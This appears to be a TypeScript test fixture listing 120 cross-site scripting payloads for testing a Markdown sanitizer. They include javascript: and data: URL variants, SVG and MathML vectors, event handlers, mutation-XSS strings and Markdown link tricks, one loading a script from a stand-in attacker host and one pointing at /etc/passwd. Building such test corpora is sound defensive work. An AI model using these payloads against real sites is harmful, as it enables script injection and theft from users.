/** Texts that try to run a script where Markdown is shown: 120 of them, each calling `pwned()` if it gets that far. */

const events = ['onload', 'onerror', 'onclick', 'onmouseover', 'onfocus', 'ontoggle', 'onanimationstart', 'onbegin'];
const schemes = [
  ...['javascript:pwned()', 'JaVaScRiPt:pwned()', 'java\tscript:pwned()', 'java&#10;script:pwned()'],
  ...['&#106;avascript:pwned()', '&#x6A;avascript&colon;pwned()', 'javascript&#58;pwned()', '\u0001javascript:pwned()'],
  ...[
    'vbscript:pwned()',
    'data:text/html,<script>pwned()</script>',
    'data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+',
  ],
  ...['data:image/svg+xml,<svg onload=pwned()>', 'blob:pwned()', 'file:///etc/passwd', 'feed:javascript:pwned()'],
  ...['view-source:javascript:pwned()', '//\\javascript:pwned()', 'javascript://%0apwned()'],
];

const scripts = [
  '<script>pwned()</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script type=module>pwned()</script>',
  '<scr<script>ipt>pwned()</scr</script>ipt>',
  '<script\n>pwned()</script\n>',
  '<script x>pwned()</script x>',
  '<!--><script>pwned()</script-->',
  '<![CDATA[<script>pwned()</script>]]>',
  '<?xml version="1.0"?><script>pwned()</script>',
  '<base href="javascript:pwned()//">',
  '<meta http-equiv=refresh content="0;url=javascript:pwned()">',
  '<link rel=stylesheet href="javascript:pwned()">',
  '<style>@import "javascript:pwned()"; * { background: url(javascript:pwned()) }</style>',
  '<iframe src="javascript:pwned()"></iframe>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<object data="javascript:pwned()"></object>',
  '<embed src="javascript:pwned()">',
  '<form action="javascript:pwned()"><button>Send</button></form>',
  '<button formaction="javascript:pwned()" form=x>Send</button>',
  '<input autofocus onfocus=pwned()>',
  '<isindex type=image src=1 onerror=pwned()>',
  '<template><script>pwned()</script></template>',
  '<slot name=x onslotchange=pwned()></slot>',
];

const drawings = [
  '<svg><script>pwned()</script></svg>',
  '<svg><script href="data:text/javascript,pwned()"/></svg>',
  '<svg><a xlink:href="javascript:pwned()"><text x=20 y=20>x</text></a></svg>',
  '<svg><animate xlink:href=#x attributeName=href values="javascript:pwned()"/><a id=x><text>x</text></a></svg>',
  '<svg><set attributeName=onmouseover to=pwned()></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=pwned()>#x"/></svg>',
  '<svg><foreignObject><iframe src="javascript:pwned()"></iframe></foreignObject></svg>',
  '<svg><style><img src=x onerror=pwned()></style></svg>',
  '<math><mtext><script>pwned()</script></mtext></math>',
  '<math href="javascript:pwned()">x</math>',
  '<math><annotation-xml encoding="text/html"><script>pwned()</script></annotation-xml></math>',
  '<math><maction actiontype="statusline#http://x" xlink:href="javascript:pwned()">x</maction></math>',
];

/** What a parser makes into something else the second time. */
const mutations = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=pwned()>">',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=pwned() src>">',
  '<listing>&lt;img src=x onerror=pwned()&gt;</listing>',
  '<xmp><p title="</xmp><img src=x onerror=pwned()>">',
  '<textarea></textarea><img src=x onerror=pwned()>',
  '<title><a title="</title><img src=x onerror=pwned()>">',
  '<select><style></select><img src=x onerror=pwned()></style>',
  '<table><td background="javascript:pwned()"><img src=x onerror=pwned()></table>',
];

const tricks = [
  '[a](<javascript:pwned()>)',
  '[a]( javascript:pwned() "title")',
  '[a][1]\n\n[1]: javascript:pwned()',
  '[a][1]\n\n[1]: <data:text/html,<script>pwned()</script>> "x"',
  '<javascript:pwned()>',
  '![a](javascript:pwned())',
  '![a"onerror="pwned()](x)',
  '![a](x"onerror="pwned())',
  '[a](https://example.org/"onmouseover="pwned())',
  '[a](https://example.org/ "x\\" onmouseover=pwned() ")',
  '[[a](javascript:pwned())](https://example.org/)',
  '[![x](y)](javascript:pwned())',
  '[a](https://example.org/)[b](javascript:pwned())',
  '<a href="javascript:pwned()">**bold**</a>',
  '<div>\n\n[a](javascript:pwned())\n\n</div>',
  '> <script>pwned()</script>',
  '- <img src=x onerror=pwned()>',
  '| a | b |\n| - | - |\n| <img src=x onerror=pwned()> | [x](javascript:pwned()) |',
  '```html\n<script>pwned()</script>\n```\n<script>pwned()</script>',
  '`` `<script>pwned()</script>` ``',
  '    <script>pwned()</script>\n\n<script>pwned()</script>',
  '# <img src=x onerror=pwned()>',
  'Text[^1]\n\n[^1]: <img src=x onerror=pwned()> [x](javascript:pwned())',
  '~~<img src=x onerror=pwned()>~~',
  'www.example.org"onmouseover="pwned()',
  'https://example.org/<script>pwned()</script>',
  'pwned@example.org"onmouseover="pwned()',
  '\\<script>pwned()</script>',
  '&lt;script&gt;pwned()&lt;/script&gt;',
  '<!-- a --><img src=x onerror=pwned()><!-- b -->',
  '<details open ontoggle=pwned()><summary>x</summary></details>',
  '<a id=location name=cookie href=x>clobbered</a>',
  '<img name=getElementById><form name=body></form>',
];

const alone = [...scripts, ...drawings, ...mutations, ...tricks];
const links = schemes.map((scheme) => `[a link](${scheme}) <a href="${scheme}">another</a> <img src="${scheme}">`);
const handlers = events.flatMap((event) => [
  `<img src=x ${event}=pwned()>`,
  `<svg ${event}=pwned()><rect></rect></svg>`,
  `<body ${event}="pwned()"><p style="animation-name:x" ${event}='pwned()' tabindex=0>x</p>`,
]);

export const attacks: readonly string[] = [...alone, ...links, ...handlers];
